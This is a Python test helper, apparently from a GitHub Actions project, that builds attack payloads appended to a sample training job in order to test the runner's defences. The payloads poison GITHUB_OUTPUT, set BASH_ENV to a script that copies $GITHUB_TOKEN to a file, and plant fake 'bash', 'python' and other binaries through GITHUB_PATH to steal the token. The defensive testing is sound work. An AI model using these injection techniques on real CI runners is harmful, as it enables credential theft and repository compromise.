"""A job whose code attacks GitHub's runner: through its files, named to it or found in the temporary folder."""

from __future__ import annotations

from pathlib import Path
from typing import Final

SAMPLE = Path(__file__).parents[1] / "gate" / "sample" / "train.py"

_START = """\
import glob, os, sys
print("attacked", file=sys.stderr)
LOOT = {loot!r}
def put(kind, name, text):
    found = glob.glob(os.path.join(os.environ["RUNNER_TEMP"], "_runner_file_commands", kind + "_*"))
    for path in {{*found, os.environ.get(name, "")}} - {{""}}:
        with open(path, "a") as file:
            file.write(text)
def script(path, text):
    with open(path, "w") as file:
        file.write(text)
    os.chmod(path, 0o755)
STEAL = "#!/bin/sh\\nif [ -n \\"$GITHUB_TOKEN\\" ]; then echo $GITHUB_TOKEN > " + LOOT + "; fi\\n"
"""
ATTACKS: Final = {
    # The end of the value is what the action itself writes next, so that its own exit code is a part of the value.
    "output_file": """
report = os.path.join(os.environ["RUNNER_TEMP"], "trainfare")
for end in [*glob.glob(report + "*"), report]:
    put("set_output", "GITHUB_OUTPUT", f"exit-code=0\\nx<<report={end}\\n")
""",
    "bash_env": """
start = os.path.join(os.environ["RUNNER_TEMP"], "start.sh")
script(start, STEAL + "exit 0\\n")
put("set_env", "GITHUB_ENV", f"BASH_ENV={start}\\nPYTHONPATH={os.environ['RUNNER_TEMP']}\\n")
""",
    "path_file": """
folder = os.path.join(os.environ["RUNNER_TEMP"], "programs")
os.makedirs(folder, exist_ok=True)
for name in ("trainfare", "python", "bash", "tee", "env", "cat"):
    script(os.path.join(folder, name), STEAL)
put("add_path", "GITHUB_PATH", folder + "\\n")
""",
}
"""By the name that each has where it was found."""


def attack(loot: Path, *names: str) -> str:
    """Return the sample job with some attacks, which write the token into a file where they get it."""
    parts = [_START.format(loot=str(loot)), *(ATTACKS[name] for name in names)]
    return SAMPLE.read_text(encoding="utf-8") + "".join(parts)
